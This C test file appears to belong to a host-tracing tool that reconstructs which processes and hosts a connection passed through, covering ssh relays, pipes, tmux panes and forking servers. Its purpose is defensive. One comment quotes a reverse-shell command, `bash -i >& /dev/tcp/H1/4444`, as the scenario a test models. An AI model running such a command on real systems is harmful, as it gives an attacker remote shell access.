	image(g, 120, 1, "/usr/bin/bash", 1 * SEC);
	mkpipe(g, 120, 3, 4, 990, 2 * SEC);
	pipe_child(g, 121, 120, 4, 1, "/usr/bin/curl", 2 * SEC + 1);
	fdop(g, 120, HT_REC_CLOSE, 4, 0, 2 * SEC + 3); /* keeps the read end */
	connect_tcp(g, 121, 6, 3800, "203.0.113.9", 80, 2 * SEC + 4);
	fdop(g, 121, HT_REC_CLOSE, 6, 0, 3 * SEC);
	ok(g, 121, R(HT_REC_EXIT, 3 * SEC + 1));
	onward(g, 122, 120, "/usr/bin/nc.openbsd", 3801, 4 * SEC);
	CHECK_CHAINS(g, 122, 3801, 5 * SEC, "h2:nc.openbsd");
	graph_free(g);
}

/* A forking server's children share its record socket (the shim's
 * connection to the collector, inherited at fork). Read from /proc before
 * the collector accepted that connection, the kernel names its peer inode 0:
 * taken as "no peer", the socket's other holders became sources — the
 * sibling serving another client fed this one (chain_handoff's forking
 * server, with the collector lagging). It is "not known yet" (sock_diag
 * -EAGAIN): nothing is followed through it, no push may decide on the walk
 * (kernel_asked), and once accepted it is the collector's own connection. */
static void test_record_socket_unaccepted(void)
{
	struct graph *g = mk(600, 1000);
	int nl = sd_open();
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	snprintf(a.sun_path + 1, sizeof(a.sun_path) - 1, "ht-graph-test-rec-%d", (int)getpid());
	socklen_t al = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(a.sun_path + 1));
	int l = socket(AF_UNIX, SOCK_SEQPACKET, 0), rs = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	CHECK(nl >= 0);
	CHECK_EQ_INT(bind(l, (struct sockaddr *)&a, al), 0);
	CHECK_EQ_INT(listen(l, 4), 0);
	CHECK_EQ_INT(connect(rs, (struct sockaddr *)&a, al), 0);
	struct stat st;
	CHECK_EQ_INT(fstat(rs, &st), 0);
	uint64_t rec = (uint64_t)st.st_ino;

	image(g, 300, 1, "/usr/bin/python3", 1 * SEC);
	struct ht_record o = R(HT_REC_OPEN, 1 * SEC + 1); /* its record socket, as /proc shows it */
	o.fd = 800;
	o.chan = (struct ht_chan){HT_CHAN_SOCK, 0, rec};
	ok(g, 300, o);
	accept_tcp(g, 300, 4, 3300, "192.0.2.31", 40001, 2 * SEC);
	birth(g, 301, 300, 2 * SEC + 1); /* h1's child: fds 4 and 800 */
	fdop(g, 300, HT_REC_CLOSE, 4, 0, 2 * SEC + 2);
	connect_tcp(g, 301, 5, 3301, "198.51.100.3", 22, 2 * SEC + 3);
	accept_tcp(g, 300, 4, 3302, "192.0.2.32", 40002, 3 * SEC);
	birth(g, 302, 300, 3 * SEC + 1); /* h3's child */
	fdop(g, 300, HT_REC_CLOSE, 4, 0, 3 * SEC + 2);
	connect_tcp(g, 302, 5, 3303, "198.51.100.3", 22, 3 * SEC + 3);

	unsigned asked = 0;
	struct chain_req req = {.host = "h2", .subject = graph_proc(g, 302),
				.exclude = graph_chan(g, HT_CHAN_SOCK, 0, 3303),
				.now = 4 * SEC, .nl = nl, .kernel_asked = &asked};
	char s[1024] = "";
	cJSON *c = chain_compute(g, &req);
	if (c)
		chains_str(c, s, sizeof(s));
	CHECK_EQ_STR(s, "192.0.2.32:python3,python3");
	CHECK(asked > 0); /* a push computed now decides nothing */
	CHECK(!cJSON_GetObjectItem(c, "holders_incomplete"));
	cJSON_Delete(c);
	/* asked again each round, a bounded number of times: then a walk says
	 * it may have missed a source */
	CHECK(graph_pending(g) > 0);
	for (int i = 0; i < GRAPH_PEER_WAIT_ROUNDS + 4; i++)
		graph_probe_pending(g, 0);
	CHECK_EQ_INT(graph_pending(g), 0);
	c = chain_compute(g, &req);
	CHECK(c && cJSON_IsTrue(cJSON_GetObjectItem(c, "holders_incomplete")));
	cJSON_Delete(c);

	/* accepted: the collector's own end; the socket is nobody's source */
	int acc = accept(l, NULL, NULL);
	CHECK(acc >= 0);
	CHECK_EQ_INT(fstat(acc, &st), 0);
	graph_mark_internal(g, (uint64_t)st.st_ino, 1);
	asked = 0;
	req.now = 5 * SEC;
	c = chain_compute(g, &req);
	s[0] = 0;
	if (c)
		chains_str(c, s, sizeof(s));
	CHECK_EQ_STR(s, "192.0.2.32:python3,python3");
	CHECK_EQ_INT(asked, 0);
	cJSON_Delete(c);
	struct chan *rc = graph_chan(g, HT_CHAN_SOCK, 0, rec);
	CHECK(rc && rc->peer && rc->peer->internal);
	close(acc);
	close(rs);
	close(l);
	close(nl);
	graph_free(g);
}

/* tmux forks libutempter's helper for each new pane with every fd of the
 * server (all panes' masters): a departed feeder of the new pane's pty, it must
 * not bring in what another pane runs */
static void test_hub_child_departed(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 130, 1, "/usr/bin/tmux", 1 * SEC);
	pty(g, 130, 5, -1, 7, 1 * SEC + 1); /* pane A */
	birth(g, 131, 130, 2 * SEC);
	fdop(g, 131, HT_REC_CLOSERANGE, 0, 100, 2 * SEC + 1); /* a pane drops the server's fds */
	struct ht_record o = R(HT_REC_OPEN, 2 * SEC + 1);
	o.fd = 0;
	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, 7};
	ok(g, 131, o);
	image(g, 131, 130, "/usr/bin/ssh", 2 * SEC + 2);
	connect_tcp(g, 131, 3, 3900, "203.0.113.4", 22, 2 * SEC + 3);
	pty(g, 130, 6, -1, 8, 5 * SEC); /* pane B */
	birth(g, 133, 130, 5 * SEC + 1);
	fdop(g, 133, HT_REC_CLOSERANGE, 0, 100, 5 * SEC + 2);
	o.ts = 5 * SEC + 2;
	o.chan.ino = 8;
	ok(g, 133, o);
	image(g, 133, 130, "/usr/bin/bash", 5 * SEC + 3);
	birth(g, 132, 130, 5 * SEC + 4); /* utempter: the server's fds */
	image(g, 132, 130, "/usr/lib/utempter/utempter", 5 * SEC + 5);
	ok(g, 132, R(HT_REC_EXIT, 5 * SEC + 6));
	onward(g, 134, 133, "/usr/bin/nc.openbsd", 3901, 6 * SEC);
	CHECK_CHAINS(g, 134, 3901, 7 * SEC, "h2:nc.openbsd");
	graph_free(g);
}

/* a reverse shell (`bash -i >& /dev/tcp/H1/4444`) whose start-up ran
 * `$(stat …)` in a subshell that inherited the connection: the connection is
 * reported on the direct path (bash holds it), not through the pipe it read */
static void test_direct_path_first(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 90, 1, "/usr/bin/bash", 1 * SEC);
	connect_tcp(g, 90, 0, 3600, "192.0.2.9", 4444, 1 * SEC + 1);
	mkpipe(g, 90, 3, 4, 970, 2 * SEC);
	/* the $(...) subshell: it has the connection too */
	pipe_child(g, 91, 90, 4, 1, NULL, 2 * SEC + 1);
	fdop(g, 90, HT_REC_CLOSE, 4, 0, 2 * SEC + 2);
	birth(g, 92, 91, 2 * SEC + 3);
	image(g, 92, 91, "/usr/bin/stat", 2 * SEC + 4);
	ok(g, 92, R(HT_REC_EXIT, 2 * SEC + 5));
	ok(g, 91, R(HT_REC_EXIT, 2 * SEC + 6));
	fdop(g, 90, HT_REC_CLOSE, 3, 0, 2 * SEC + 7);
	onward(g, 93, 90, "/usr/bin/nc.openbsd", 3601, 3 * SEC);
	CHECK_CHAINS(g, 93, 3601, 4 * SEC, "192.0.2.9:bash,nc.openbsd");
	graph_free(g);
}

static void test_local_origin(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 90, 1, "/usr/bin/curl", 1 * SEC);
	connect_tcp(g, 90, 3, 8000, "198.51.100.3", 8000, 2 * SEC);
	cJSON *a = chain_of(g, 90, 8000, 3 * SEC);
	char s[256];
	chains_str(a, s, sizeof(s));
	CHECK_EQ_STR(s, "h2:curl");
	cJSON *ch = cJSON_GetArrayItem(cJSON_GetObjectItem(a, "chains"), 0);
	CHECK(cJSON_IsTrue(cJSON_GetObjectItem(ch, "complete")));
	cJSON_Delete(a);
	graph_free(g);
}

/* a local origin through a local relay: the client that connected to the
 * forwarder over loopback TCP is the origin process (ssh -L on the origin
 * host); a pipe writer feeding the subject is one too; a terminal is not */
static void test_local_origin_feeders(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 90, 1, "/usr/bin/ssh", 1 * SEC); /* the forwarder */
	image(g, 91, 1, "/usr/bin/ssh", 2 * SEC); /* ssh -p 2222 localhost */
	connect_tcp(g, 91, 3, 9100, "127.0.0.1", 2222, 2 * SEC + 1);
	struct ht_record a = R(HT_REC_ACCEPT, 2 * SEC + 2);
	a.fd = 5;
	a.chan = (struct ht_chan){HT_CHAN_SOCK, 0, 9101};
	a.chan2 = (struct ht_chan){HT_CHAN_SOCK, 0, 9102};
	v4(&a.addr, "127.0.0.1", 2222);
	v4(&a.addr2, "127.0.0.1", 40000);
	ok(g, 90, a);
	/* (sock_diag would link the two ends; without it, link them here) */
	chan_link_peers(graph_chan(g, HT_CHAN_SOCK, 0, 9100), graph_chan(g, HT_CHAN_SOCK, 0, 9101));
	connect_tcp(g, 90, 4, 9103, "198.51.100.2", 22, 3 * SEC);
	CHECK_CHAINS(g, 90, 9103, 4 * SEC, "h2:ssh,ssh");
	/* a pty master holder is not a feeder */
	image(g, 92, 1, "/usr/bin/xterm", 5 * SEC);
	pty(g, 92, 3, -1, 7, 5 * SEC + 1);
	image(g, 93, 1, "/usr/bin/curl", 6 * SEC);
	struct ht_record o = R(HT_REC_OPEN, 6 * SEC + 1);
	o.fd = 0;
	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, 7};
	ok(g, 93, o);
	connect_tcp(g, 93, 3, 9104, "198.51.100.2", 80, 6 * SEC + 2);
	CHECK_CHAINS(g, 93, 9104, 7 * SEC, "h2:curl");
	graph_free(g);
}

/* a process feeding the subject through two pipes (a command's stdout and
 * stderr read by sshd) is one feeder: one chain, not two identical ones */
static void test_local_origin_feeder_once(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 94, 1, "/usr/bin/writer", 1 * SEC);
	image(g, 95, 1, "/usr/bin/nc", 1 * SEC + 1);
	for (int i = 0; i < 2; i++) {
		struct ht_record p = R(HT_REC_PIPE, 2 * SEC + (uint64_t)i);
		p.fd = 3 + 2 * i;
		p.fd2 = 4 + 2 * i;
		p.chan = (struct ht_chan){HT_CHAN_PIPE, 12, 7000 + (uint64_t)i};
		ok(g, 94, p);
		fdop(g, 94, HT_REC_CLOSE, 3 + 2 * i, -1, 2 * SEC + 10 + (uint64_t)i);
		struct ht_record rv = R(HT_REC_FDRECV, 2 * SEC + 20 + (uint64_t)i);
		rv.fd = i ? 2 : 0;
		rv.chan = p.chan;
		ok(g, 95, rv);
	}
	connect_tcp(g, 95, 5, 9200, "198.51.100.2", 80, 3 * SEC);
	CHECK_CHAINS(g, 95, 9200, 4 * SEC, "h2:writer,nc");
	graph_free(g);
}

static void test_pid_reuse(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	birth(g, 100, 10, 2 * SEC);
	image(g, 100, 10, "/usr/bin/old", 2 * SEC + 1);
	ok(g, 100, R(HT_REC_EXIT, 3 * SEC));
	CHECK(graph_proc(g, 100) && !graph_proc(g, 100)->alive);
	birth(g, 100, 10, 4 * SEC);
	image(g, 100, 10, "/usr/bin/new", 4 * SEC + 1);
	struct proc *p = graph_proc(g, 100);
	CHECK(p && p->alive);
	CHECK_EQ_STR(p->exe, "/usr/bin/new");
	int n = 0;
	for (struct proc *q = graph_first_proc(g); q; q = q->next)
		n += q->pid == 100;
	CHECK_EQ_INT(n, 2);
	graph_free(g);
}

/* A vfork child's BIRTH and EXEC (a momentary connection to the record
 * socket) applied after its new image's IMAGE (the ring socket), as a drain
 * round that read the registration first leaves them: the exec is the
 * IMAGE's, not one still to come (chain_relays' waiting shell was seen
 * "kernel": the walk took it for a static image). A later EXEC still is. */
static void test_exec_after_image(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 20, 1, "/usr/bin/dash", 1 * SEC);
	image(g, 21, 20, "/usr/bin/nc.openbsd", 2 * SEC + 1000000);
	birth(g, 21, 20, 2 * SEC);
	ok(g, 21, R(HT_REC_EXEC, 2 * SEC));
	struct proc *p = graph_proc(g, 21);
	CHECK(p && p->alive && !p->exec_pending);
	CHECK(p && p->creator && p->creator->pid == 20);
	CHECK_EQ_STR(p ? proc_seen(p) : "", "shim");
	ok(g, 21, R(HT_REC_EXEC, 3 * SEC)); /* its own exec, after the image */
	CHECK(p && p->exec_pending);
	graph_free(g);
}

static void test_retention_and_bounds(void)
{
	struct graph *g = mk(10, 1000);
	struct graph_stats st;
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	birth(g, 20, 10, 2 * SEC);
	birth(g, 21, 20, 3 * SEC);
	ok(g, 20, R(HT_REC_EXIT, 4 * SEC)); /* ended, but 21 is its child */
	birth(g, 30, 10, 5 * SEC);
	ok(g, 30, R(HT_REC_EXIT, 6 * SEC)); /* ended, no children */
	graph_gc(g, 100 * SEC);
	CHECK(graph_proc(g, 30) == NULL);   /* gone after retention */
	CHECK(graph_proc(g, 20) != NULL);   /* kept: creator of a kept process */
	CHECK(graph_proc(g, 21)->creator == graph_proc(g, 20));
	graph_stats(g, &st);
	CHECK_EQ_INT(st.procs, 3);
	graph_free(g);

	/* max_procs: ended ones are evicted first; live ones are never dropped */
	g = mk(600, 100);
	image(g, 10, 1, "/bin/sh", 1);
	for (int i = 0; i < 300; i++) {
		birth(g, 1000 + i, 10, 10 + (uint64_t)i * 10);
		ok(g, 1000 + i, R(HT_REC_EXIT, 11 + (uint64_t)i * 10));
	}
	graph_stats(g, &st);
	CHECK(st.procs <= 100);
	CHECK(st.evicted >= 200);
	CHECK(graph_proc(g, 10) && graph_proc(g, 10)->alive);
	graph_free(g);
}

static void test_forged_creator_contradiction(void)
{
	struct graph *g = mk(600, 1000);
	struct ht_record r = R(HT_REC_BIRTH, 1 * SEC);
	const char *why = NULL;
	r.num = 77;
	CHECK(graph_apply(g, 77, 0, &r, 1 * SEC, &why) != 0); /* own creator */
	CHECK(why != NULL);
	struct graph_stats st;
	graph_stats(g, &st);
	CHECK_EQ_INT(st.procs, 0);
	CHECK_EQ_INT(st.rejected, 1);
	graph_free(g);
}

/* Records that waited in the socket while the collector read the sender's
 * /proc/PID/fd (for another record, or a query) are older than that read: a
 * PIPE record must not reopen a pipe the table showed closed, since the CLOSE
 * records after it are older than the read too and are dropped (a shell's
 * pipeline: `sh -c "sleep | nc"` left the shell holding nc's stdin). This
 * process is the sender, so /proc is real. */
static void test_records_older_than_proc_read(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	pid_t me = getpid();
	int fds[2];
	struct stat st;
	struct timespec t;
	CHECK(pipe(fds) == 0);
	CHECK(fstat(fds[0], &st) == 0);
	clock_gettime(CLOCK_MONOTONIC, &t);
	uint64_t t_pipe = (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec;
	close(fds[0]);
	close(fds[1]);
	clock_gettime(CLOCK_MONOTONIC, &t);
	uint64_t t_close = (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec;
	/* the collector reads the table now: the pipe is gone */
	ok(g, me, R(HT_REC_RESYNC, t_close + 1));
	/* then the older records arrive */
	struct ht_record p = R(HT_REC_PIPE, t_pipe);
	p.fd = fds[0];
	p.fd2 = fds[1];
	p.chan = (struct ht_chan){HT_CHAN_PIPE, (uint64_t)st.st_dev, (uint64_t)st.st_ino};
	ok(g, me, p);
	struct ht_record c = R(HT_REC_CLOSE, t_close);
	c.fd = fds[0];
	ok(g, me, c);
	c.fd = fds[1];
	ok(g, me, c);
	struct chan *ch = graph_chan(g, HT_CHAN_PIPE, (uint64_t)st.st_dev, (uint64_t)st.st_ino);
	CHECK(ch != NULL);
	int open_holds = 0, closed_holds = 0;
	for (struct hold *h = ch ? ch->holds : NULL; h; h = h->cnext) {
		if (h->p->pid != me)
			continue;
		if (h->until)
			closed_holds++;
		else
			open_holds++;
	}
	CHECK_EQ_INT(open_holds, 0);
	CHECK_EQ_INT(closed_holds, 1); /* the history stays */
	graph_free(g);
}

/* A full re-read of a process's fd table (RESYNC) takes no socket the walk's
 * check would skip: the shim's doorbell — an unbound unix datagram socket with
 * no peer and nothing queued, open in a one-thread process between its CONNECT
 * record and its connect(), seen by the read its ring woke. Taken as a hold,
 * a busy client's closed doorbells filled its history (32 in the window: every
 * walk truncated, every chain incomplete, its SYNs refused). A connected
 * socketpair end (a channel) is kept. This process is the one read. */
static void test_resync_skips_doorbell(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	pid_t me = getpid();
	int bell = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), sp[2];
	struct stat bst, sst;
	CHECK(bell >= 0 && fstat(bell, &bst) == 0);
	CHECK(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sp) == 0 && fstat(sp[0], &sst) == 0);
	int nl = sd_open();
	if (nl < 0 || sd_unix_dead_end(nl, (uint64_t)bst.st_ino) != 1) {
		printf("  (no unix sock_diag here: skipped)\n");
	} else {
		struct timespec t;
		clock_gettime(CLOCK_MONOTONIC, &t);
		ok(g, me, R(HT_REC_RESYNC, (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec));
		struct chan *b = graph_chan(g, HT_CHAN_SOCK, 0, (uint64_t)bst.st_ino);
		int bell_holds = 0, pair_holds = 0;
		for (struct hold *h = b ? b->holds : NULL; h; h = h->cnext)
			bell_holds += h->p->pid == me;
		struct chan *c = graph_chan(g, HT_CHAN_SOCK, 0, (uint64_t)sst.st_ino);
		for (struct hold *h = c ? c->holds : NULL; h; h = h->cnext)
			pair_holds += h->p->pid == me && !h->until;
		CHECK_EQ_INT(bell_holds, 0);
		CHECK_EQ_INT(pair_holds, 1);
	}
	if (nl >= 0)
		close(nl);
	close(bell);
	close(sp[0]);
	close(sp[1]);
	graph_free(g);
}

/* `c=$(nc …)` with the collector late: the shell made a pipe, forked the child
 * (which got the write end), closed the write end, and only then did the
 * collector read the shell's /proc/PID/fd (write end gone). The child is gone
 * before its BIRTH is read: it inherits the shell's table as it was at the
 * fork — with the write end, which the table no longer shows. */
static void test_ghost_fd_inherited(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	pid_t me = getpid();
	pid_t kid = fork(); /* a pid that is gone when its BIRTH is applied */
	if (kid == 0)
		_exit(0);
	CHECK(kid > 0 && waitpid(kid, NULL, 0) == kid);
	int fds[2];
	struct stat st;
	struct timespec t;
	CHECK(pipe(fds) == 0);
	CHECK(fstat(fds[0], &st) == 0);
	clock_gettime(CLOCK_MONOTONIC, &t);
	uint64_t t_pipe = (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec;
	uint64_t t_fork = t_pipe + 1000, t_closew = t_pipe + 2000;
	close(fds[1]);
	ok(g, me, R(HT_REC_RESYNC, t_closew + 1000)); /* the read: fds[1] gone */
	struct ht_record p = R(HT_REC_PIPE, t_pipe);
	p.fd = fds[0];
	p.fd2 = fds[1];
	p.chan = (struct ht_chan){HT_CHAN_PIPE, (uint64_t)st.st_dev, (uint64_t)st.st_ino};
	ok(g, me, p);
	struct ht_record c = R(HT_REC_CLOSE, t_closew);
	c.fd = fds[1];
	ok(g, me, c);
	struct ht_record b = R(HT_REC_BIRTH, t_fork + 10);
	b.num = me;
	b.ts2 = t_fork;
	ok(g, kid, b);
	fdop(g, kid, HT_REC_DUP, fds[1], 1, t_fork + 20);
	fdop(g, kid, HT_REC_CLOSE, fds[0], 0, t_fork + 30);
	fdop(g, kid, HT_REC_CLOSE, fds[1], 0, t_fork + 30);
	struct chan *ch = graph_chan(g, HT_CHAN_PIPE, (uint64_t)st.st_dev, (uint64_t)st.st_ino);
	int kid_writes = 0, kid_reads = 0;
	for (struct hold *h = ch ? ch->holds : NULL; h; h = h->cnext)
		if (h->p->pid == kid && !h->until) {
			kid_writes += (h->ends & HE_W) != 0;
			kid_reads += (h->ends & HE_R) != 0;
		}
	CHECK_EQ_INT(kid_writes, 1); /* its stdout, the write end */
	CHECK_EQ_INT(kid_reads, 0);
	close(fds[0]);
	graph_free(g);
}

/* ---- a pipe's holders the graph does not know (review, session 12) -------
 * Real processes (/proc is real): this process reads a pipe; children forked
 * with its write end hold it too, unknown to the graph (no records: an
 * unshimmed writer, a decoy). No walk may say its holders are all known
 * (no holders_incomplete) while one of them is not in the graph. */
static uint64_t mono_now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec;
}

static void apply_me(struct graph *g, pid_t pid, struct ht_record r)
{
	const char *why = NULL;
	int rc = graph_apply(g, pid, getuid(), &r, r.ts, &why);
	if (rc)
		fprintf(stderr, "    apply %s for pid %d: %s\n", ht_rec_type_name(r.type), pid, why);
	CHECK_EQ_INT(rc, 0);
}

static pid_t pipe_kid(int close_fd)
{
	pid_t k = fork();
	if (k == 0) {
		close(close_fd);
		pause();
		_exit(0);
	}
	return k;
}

static void kids_end(pid_t *kids, int n)
{
	for (int i = 0; i < n; i++)
		if (kids[i] > 0) {
			kill(kids[i], SIGKILL);
			waitpid(kids[i], NULL, 0);
		}
}

/* does the graph know pid holds the pipe now? */
static int holds_pipe(struct graph *g, const struct stat *st, pid_t pid)
{
	struct chan *c = graph_chan(g, HT_CHAN_PIPE, (uint64_t)st->st_dev, (uint64_t)st->st_ino);
	for (struct hold *h = c ? c->holds : NULL; h; h = h->cnext)
		if (h->p->pid == pid && h->p->alive && !h->until)
			return 1;
	return 0;
}

/* one walk of this process's chain: 1 when it says holders_incomplete */
static int walk_incomplete(struct graph *g)
{
	struct chain_req req = {.host = "h2", .subject = graph_proc(g, getpid()), .now = mono_now(),
				.nl = -1};
	cJSON *a = chain_compute(g, &req);
	int inc = cJSON_IsTrue(cJSON_GetObjectItem(a, "holders_incomplete"));
	cJSON_Delete(a);
	return inc;
}

/* fifo17: 16 decoys and, last, H hold the write end. The first search takes
 * the 16 decoys and says so; the next walks found "a writer the graph knows"
 * and searched no more, so H stayed unknown and the answer complete. */
static void test_pipe_decoys_known(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	int fds[2];
	struct stat st;
	pid_t kids[17];
	CHECK(pipe(fds) == 0 && fstat(fds[0], &st) == 0);
	for (int i = 0; i < 17; i++)
		kids[i] = pipe_kid(fds[0]); /* kids[16]: H, the last */
	close(fds[1]);
	apply_me(g, getpid(), R(HT_REC_RESYNC, mono_now()));
	CHECK(holds_pipe(g, &st, getpid()));
	int h_known = 0, walks = 0;
	for (; walks < 4 && !h_known; walks++) {
		int inc = walk_incomplete(g);
		h_known = holds_pipe(g, &st, kids[16]);
		if (!inc && !h_known)
			fprintf(stderr, "    walk %d: complete, H (%d) unknown\n", walks + 1, (int)kids[16]);
		CHECK(inc || h_known);
	}
	CHECK(h_known);
	CHECK(!walk_incomplete(g)); /* all 17 known now: a complete search */
	kids_end(kids, 17);
	close(fds[0]);
	graph_free(g);
}

/* A writer D the graph knows (its BIRTH: it inherited the pipe) from the
 * start, and a complete walk; then H gets the write end with no record and
 * this process lets go of it: the next walk must not take D for all. */
static void test_pipe_holder_after_search(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	int fds[2];
	struct stat st;
	pid_t kids[2] = {0, 0};
	pid_t me = getpid();
	CHECK(pipe(fds) == 0 && fstat(fds[0], &st) == 0);
	apply_me(g, me, R(HT_REC_RESYNC, mono_now()));
	uint64_t tf = mono_now();
	kids[0] = pipe_kid(fds[0]); /* D: shimmed, says so */
	struct ht_record b = R(HT_REC_BIRTH, tf + 1);
	b.num = me;
	b.ts2 = tf;
	apply_me(g, kids[0], b);
	CHECK(holds_pipe(g, &st, kids[0]));
	CHECK(!walk_incomplete(g));
	kids[1] = pipe_kid(fds[0]); /* H: no record */
	close(fds[1]);
	apply_me(g, me, R(HT_REC_RESYNC, mono_now()));
	int h_known = 0;
	for (int walks = 0; walks < 3 && !h_known; walks++) {
		int inc = walk_incomplete(g);
		h_known = holds_pipe(g, &st, kids[1]);
		CHECK(inc || h_known);
	}
	CHECK(h_known);
	kids_end(kids, 2);
	close(fds[0]);
	graph_free(g);
}

/* A push decides on a walk whose pipe search found only holders the graph
 * knows (no kernel_asked); the who that confirms it searches again
 * (chain_check_reach): a holder that got the pipe since with no record (a
 * fork child nobody reported) undoes the push. */
static void test_pipe_push_confirm(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	int fds[2];
	struct stat st;
	pid_t me = getpid(), kid = 0;
	CHECK(pipe(fds) == 0 && fstat(fds[0], &st) == 0);
	apply_me(g, me, R(HT_REC_RESYNC, mono_now()));
	unsigned asked = 0;
	struct chain_req req = {.host = "h2", .subject = graph_proc(g, me), .now = mono_now(),
				.nl = -1, .kernel_asked = &asked};
	cJSON *a = chain_compute(g, &req);
	CHECK(!cJSON_IsTrue(cJSON_GetObjectItem(a, "holders_incomplete")));
	cJSON_Delete(a);
	CHECK_EQ_INT(asked, 0); /* searched, all known: the graph's answer */
	CHECK_EQ_INT(chain_check_reach(g, graph_proc(g, me), mono_now(), 0), 0);
	kid = pipe_kid(-1); /* holds both ends, no record */
	CHECK_EQ_INT(chain_check_reach(g, graph_proc(g, me), mono_now(), 0), 1);
	kids_end(&kid, 1);
	close(fds[0]);
	close(fds[1]);
	graph_free(g);
}

/* ---- dark connections (session 13) ---------------------------------------
 * A process of the subject's uid that the shim does not describe holds — or
 * let go of within the window — a connection with another host that no
 * record names (the kernel's events: an unshimmed H holding B's
 * connection). It may have fed the subject through a channel end it got and
 * let go of with no record (a raw SCM_RIGHTS copy, a FIFO opened and
 * closed): no walk can find that, so the answer says holders_incomplete —
 * also with kernel events off when the walk read a local channel. */
static pid_t uid_kid(uid_t uid, const int *pfd)
{
	pid_t k = fork();
	if (k == 0) {
		/* only the pipe it reads and writes (pfd), if any */
		for (int fd = 3; fd < 1024; fd++)
			if (!pfd || (fd != pfd[0] && fd != pfd[1]))
				close(fd);
		int nul = open("/dev/null", O_RDWR);
		for (int fd = 0; fd < 3 && nul >= 0; fd++)
			dup2(nul, fd);
		if (setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0)
			_exit(1);
		pause();
		_exit(0);
	}
	return k;
}

/* waits (up to 5 s) until kid k's real uid is uid: its setresuid done
 * (a fixed 20 ms was too short under load) */
static void uid_kid_wait(pid_t k, uid_t uid)
{
	char path[64], line[256];
	snprintf(path, sizeof(path), "/proc/%d/status", (int)k);
	for (int i = 0; i < 500; i++) {
		FILE *f = fopen(path, "r");
		unsigned u = (unsigned)-1;
		while (f && fgets(line, sizeof(line), f))
			if (sscanf(line, "Uid: %u", &u) == 1)
				break;
		if (f)
			fclose(f);
		if (u == uid)
			return;
		usleep(10000);
	}
}

/* H (kid of uid hu) connected to 192.0.2.7:443 by the kernel's events; closed
 * when closed != 0. The subject S (uid 65534, found in /proc) reads nothing
 * (a pipe when pipe_read). lost: events lost before the walk — LOST_NONE,
 * LOST_ALL (the ring full: everyone's), else that uid's rationed ones. */
#define LOST_NONE (-1L)
#define LOST_ALL (-2L)
static int dark_scene_lost(uid_t hu, int closed, int kev_on, int pipe_read, long lost)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	graph_kev_on(g, kev_on);
	int pfd[2] = {-1, -1};
	if (pipe_read)
		CHECK(pipe(pfd) == 0);
	pid_t kids[2] = {uid_kid(hu, NULL), uid_kid(65534, pfd)};
	if (pipe_read) {
		close(pfd[0]);
		close(pfd[1]);
	}
	uid_kid_wait(kids[0], hu);
	uid_kid_wait(kids[1], 65534);
	uint64_t t0 = mono_now();
	static const uint8_t hl[4] = {10, 0, 0, 2}, far[4] = {192, 0, 2, 7};
	struct graph_kev_sock sk = {kids[0], 777001, t0, AF_INET, 0, 443, 7, 2, hl, far, 0, 0, 0};
	graph_kev_tcp(g, &sk, t0); /* SYN_SENT */
	sk.sport = 40001, sk.oldstate = 2, sk.newstate = 1, sk.ts = t0 + 1;
	graph_kev_tcp(g, &sk, t0 + 1); /* ESTABLISHED */
	if (closed) {
		sk.oldstate = 1, sk.newstate = 4, sk.ts = t0 + 2, sk.released = 1;
		graph_kev_tcp(g, &sk, t0 + 2); /* FIN_WAIT1: its close */
	}
	if (lost == LOST_ALL)
		graph_kev_lossy(g);
	else if (lost != LOST_NONE)
		graph_kev_uid_lossy(g, (uid_t)lost);
	struct proc *s = graph_proc_resync(g, kids[1], mono_now());
	CHECK(s != NULL && s->uid == 65534);
	int inc = 0;
	if (s) {
		struct chain_req req = {.host = "h2", .subject = s, .now = mono_now(), .nl = -1};
		cJSON *a = chain_compute(g, &req);
		inc = cJSON_IsTrue(cJSON_GetObjectItem(a, "holders_incomplete"));
		cJSON_Delete(a);
	}
	kids_end(kids, 2);
	graph_free(g);
	return inc;
}

static int dark_scene(uid_t hu, int closed, int kev_on, int pipe_read)
{
	return dark_scene_lost(hu, closed, kev_on, pipe_read, LOST_NONE);
}

